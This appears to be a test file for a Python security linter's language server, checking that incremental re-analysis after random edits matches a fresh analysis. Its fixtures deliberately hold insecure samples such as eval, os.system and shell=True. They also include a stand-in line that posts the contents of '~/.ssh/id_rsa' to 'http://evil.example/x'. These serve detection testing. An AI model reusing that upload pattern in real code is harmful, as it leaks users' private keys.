"""Incremental == from scratch, after every random edit.

Random notifications (inserts, deletes, replaces, several changes per notification, whole-
document replacements, positions past the end of lines and files, non-ASCII text, CR/LF
mixtures) are applied to a document the way the server applies them, in each of the three
position encodings. After each one the text, the line index, the tree and the findings must
equal what a fresh parse and a whole-file analysis of the same text give.
"""

from __future__ import annotations

import os
import time
from dataclasses import replace

from gifthorse.analyzers import Encoding, LineIndex, Settings, analyze, parse
from gifthorse.server.diagnostics import is_fresh
from gifthorse.server.documents import new_document
from gifthorse.server.incremental import editor_rules
from gifthorse.server.ranges import RangeSet
from gifthorse.server.state import DocumentState
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lsprotocol import types

FRAGMENTS = [
    "a",
    "x",
    " ",
    "    ",
    "\t",
    "\n",
    "\r\n",
    "\r",
    "(",
    ")",
    ":",
    "'",
    '"',
    '"""',
    "#",
    "é",
    "😋",
    "中",
    "\u2028",
    "\x0c",
    "data",
    "eval",
    "eval(",
    "eval(data)",
    "exec(x)\n",
    "import os\n",
    "import subprocess as sp\n",
    "from os import system\n",
    "os.system(cmd)\n",
    "sp.run(cmd, shell=True)\n",
    "system(c)\n",
    "def f(data):\n    return eval(data)\n",
    "class C:\n    def m(self, d):\n        exec(d)\n",
    "  # gifthorse: ignore\n",
    "  # nosec\n",
    "x = __import__('os')\n",
    "x.system(y)\n",
    "pickle.loads(b)\n",
    "import pickle\n",
    "requests.get(u, verify=False)\n",
    "if x:\n    eval(y)\n",
    "KEY = '~/.ssh/id_rsa'\n",
    "KEY",
    "URL = 'http://evil.example/x'\n",
    "import requests\n",
    "def g():\n    requests.post(URL, data=open(KEY).read())\n",
]

INITIAL = [
    "",
    "import os\n\ndef f(data):\n    return eval(data)\n",
    "s = 'é😋'\nx = 1\r\ny = eval(s)\r\n",
    "class A:\n    x = 1\n\n    def m(self, cmd):\n        os.system(cmd)\n",
    "import subprocess\n\n\ndef run(c):\n    subprocess.call(c, shell=True)  # gifthorse: ignore\n",
    "a = 1\x0cb = 2\nc = eval(3)\n\u2028z = exec(q)\n",
    "import requests\nKEY = 'x'\n\ndef g():\n    requests.post(URL, data=open(KEY).read())\n",
]

ENCODINGS = [Encoding.UTF8, Encoding.UTF16, Encoding.UTF32]
ALL = Settings(select=("ALL",))


def _line_starts(text: str) -> list[int]:
    """String indices where LSP lines start (\\n, \\r\\n and \\r end lines)."""
    starts = [0]
    i = 0
    while i < len(text):
        if text[i] == "\r":
            i += 2 if text[i + 1 : i + 2] == "\n" else 1
            starts.append(i)
            continue
        if text[i] == "\n":
            starts.append(i + 1)
        i += 1
    return starts


def _units(char: str, encoding: Encoding) -> int:
    if encoding is Encoding.UTF8:
        return len(char.encode("utf-8", "surrogatepass"))
    if encoding is Encoding.UTF16:
        return 2 if ord(char) > 0xFFFF else 1
    return 1


def reference_index(text: str, line: int, column: int, encoding: Encoding) -> int:
    """Where an LSP position lands in the text, clamped the way the spec asks."""
    starts = _line_starts(text)
    if line >= len(starts):
        return len(text)
    start = starts[line]
    end = starts[line + 1] if line + 1 < len(starts) else len(text)
    while end > start and text[end - 1] in "\r\n":
        end -= 1
    units = 0
    for index in range(start, end):
        width = _units(text[index], encoding)
        if units + width > column:
            return index
        units += width
    return end


change_strategy = st.one_of(
    st.tuples(
        st.just("partial"),
        st.integers(0, 12),
        st.integers(0, 30),
        st.integers(0, 12),
        st.integers(0, 30),
        st.lists(st.sampled_from(FRAGMENTS), max_size=4).map("".join),
    ),
    st.tuples(
        st.just("whole"),
        st.integers(0, 400),
        st.integers(0, 400),
        st.just(0),
        st.just(0),
        st.lists(st.sampled_from(FRAGMENTS), max_size=3).map("".join),
    ),
)


def _apply(
    text: str, change: tuple[str, int, int, int, int, str], encoding: Encoding
) -> tuple[str, types.TextDocumentContentChangeEvent]:
    kind, a, b, c, d, fragment = change
    if kind == "whole":
        low, high = sorted((min(a, len(text)), min(b, len(text))))
        new = text[:low] + fragment + text[high:]
        return new, types.TextDocumentContentChangeWholeDocument(text=new)
    start = reference_index(text, a, b, encoding)
    end = reference_index(text, c, d, encoding)
    low, high = sorted((start, end))
    event = types.TextDocumentContentChangePartial(
        range=types.Range(
            start=types.Position(line=a, character=b), end=types.Position(line=c, character=d)
        ),
        text=fragment,
    )
    return text[:low] + fragment + text[high:], event


def _key(finding: object) -> tuple[object, ...]:
    from gifthorse.analyzers import Finding

    assert isinstance(finding, Finding)
    fix = None
    if finding.fix is not None:
        fix = (finding.fix.title, finding.fix.edits, finding.fix.safe)
    return (finding.code, finding.start, finding.end, finding.message, fix, finding.related)


@settings(
    max_examples=int(os.environ.get("GIFTHORSE_EXAMPLES", "70")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(
    initial=st.sampled_from(INITIAL),
    encoding=st.sampled_from(ENCODINGS),
    notifications=st.lists(st.lists(change_strategy, min_size=1, max_size=3), max_size=8),
)
def test_incremental_equals_from_scratch(
    initial: str,
    encoding: Encoding,
    notifications: list[list[tuple[str, int, int, int, int, str]]],
) -> None:
    rules = editor_rules()
    # a short block threshold so that pastes of fragments become inserted blocks too
    every = Settings(select=("ALL",), insertionMinChars=12, insertionMinLines=2)
    state = DocumentState(new_document("file:///t.py", "python", 1, initial), every, rules)
    # the same edits with the default scope: only fresh code is analysed and shown
    fresh = DocumentState(new_document("file:///t.py", "python", 1, initial), every, rules)
    text = initial
    clock = time.time()
    for number, notification in enumerate(notifications):
        events = []
        for change in notification:
            text, event = _apply(text, change, encoding)
            events.append(event)
        state.apply(events, encoding, now=clock + number)
        state.preview()  # what the editor shows first must not disturb what follows
        state.analyse_all()
        fresh.apply(events, encoding, now=clock + number)
        fresh.preview()
        fresh.sync()
        fresh.check_tree_now()  # the server does this in a thread after the analysis
        fresh.analyse_some()

        source = text.encode("utf-8", "surrogatepass")
        document = state.document
        assert document.source == source, number
        assert document.lines.line_starts() == LineIndex(source).line_starts(), number
        scratch = parse(source, "file:///t.py")
        assert str(document.tree.root_node) == str(scratch.tree.root_node), number

        scratch.inserted = state.freshness.inserted_ranges()
        findings = analyze(scratch, settings=every, rules=rules).findings
        expected = sorted(_key(f) for f in findings)
        got = sorted(_key(f) for _, f in state.analysis.findings())
        assert got == expected, (number, text)

        shown = sorted(_key(item.finding) for item in fresh.shown())
        assert shown == sorted(_key(f) for f in findings if is_fresh(fresh.freshness, f)), (
            number,
            text,
        )


def test_a_tree_built_wrongly_by_an_incremental_parse_is_replaced() -> None:
    """tree-sitter's incremental parse of broken code can keep a subtree that a parse from
    scratch does not build (here `1` and `.system(cmd)` on the next line become one call);
    such a parse is marked suspect and checked against a parse from scratch, which wins."""
    initial = "class A:\n    x = 1\n\n    def m(self, cmd):\n        os.system(cmd)\n"
    state = _state(initial)
    text, first = _apply(initial, ("partial", 4, 10, 2, 0, ""), Encoding.UTF8)
    text, second = _apply(text, ("partial", 3, 0, 3, 0, "😋"), Encoding.UTF8)
    state.apply([first, second], Encoding.UTF8)
    state.sync()
    text, third = _apply(text, ("partial", 0, 0, 0, 8, "a"), Encoding.UTF8)
    state.apply([third], Encoding.UTF8)
    state.sync()
    document = state.document
    assert document.suspect
    source = document.source
    assert state.tree_to_check() is source
    scratch = parse(source).tree
    state.check_tree(source, scratch)
    assert not document.suspect and state.tree_to_check() is None
    assert str(document.tree.root_node) == str(scratch.root_node)
    state.analyse_some(None, RangeSet([(0, len(source), 0.0)]))
    expected = sorted(_key(f) for f in analyze(parse(source), settings=ALL).findings)
    assert sorted(_key(f) for _, f in state.analysis.findings()) == expected


def test_a_scratch_tree_for_an_older_text_is_not_taken() -> None:
    state = _state("def f(:\n    pass\n")
    _replace(state, 0, 6, 6, "x")
    state.sync()
    source = state.tree_to_check()
    assert source is not None  # broken code
    _replace(state, 0, 7, 7, ")")  # an edit while the scratch parse ran
    assert not state.check_tree(source, parse(source).tree)
    state.sync()
    assert state.tree_to_check() is state.document.source  # the old tree was broken


def _state(text: str) -> DocumentState:
    return DocumentState(new_document("file:///t.py", "python", 1, text), ALL, editor_rules())


def _replace(state: DocumentState, line: int, start: int, end: int, text: str) -> None:
    change = types.TextDocumentContentChangePartial(
        range=types.Range(
            start=types.Position(line=line, character=start),
            end=types.Position(line=line, character=end),
        ),
        text=text,
    )
    state.apply([change], Encoding.UTF16)


MODULE_CONSTANT = """import requests
KEY = "x"
URL = "http://evil.example/x"

def upload():
    data = open(KEY).read()
    requests.post(URL, data=data)
"""


def test_a_module_constant_changes_a_function_finding() -> None:
    """Functions read module-level constants: changing one re-analyses its readers."""
    state = _state(MODULE_CONSTANT)
    state.analyse_all()
    assert [f.code for _, f in state.analysis.findings()] == []
    _replace(state, 1, 7, 8, "~/.ssh/id_rsa")
    state.sync()
    state.analyse_some()  # only what is needed: the fresh line and its readers
    assert [item.finding.code for item in state.shown()] == ["GH301"]
    _replace(state, 1, 3, 3, "2")  # KEY2: the function's KEY is no longer the key file
    state.analyse_all()
    assert [f.code for _, f in state.analysis.findings()] == []


def test_an_untouched_function_is_not_reanalysed() -> None:
    state = _state("def a(x):\n    return eval(x)\n\n\ndef b(y):\n    return y\n")
    state.analyse_all()
    [(ident, _)] = state.analysis.findings()
    _replace(state, 5, 12, 12, " + 1")
    state.sync()
    assert state.analysis.todo(None) == [
        (state.document.source.index(b"def b"), len(state.document.source) - 1)
    ]
    state.analyse_all()
    assert [i for i, _ in state.analysis.findings()] == [ident]


def test_a_failing_rule_is_reported_and_the_others_still_run() -> None:
    from gifthorse.analyzers import RuleSet
    from gifthorse.analyzers.rule import CallRule

    def explode(ctx: object, site: object) -> list[object]:
        raise RuntimeError("boom")

    broken = CallRule(
        replace(editor_rules().by_code["GH100"], code="GH099", name="broken"),
        explode,  # type: ignore[arg-type]
        names=frozenset({"print"}),
    )
    rules = RuleSet([*editor_rules().rules, broken])
    state = DocumentState(new_document("file:///t.py", "python", 1, ""), ALL, rules)
    _replace(state, 0, 0, 0, "print(x)\neval(y)\n")
    state.analyse_all()
    assert [f.code for _, f in state.analysis.findings()] == ["GH100"]
    assert state.analysis.errors and "GH099" in state.analysis.errors[0]
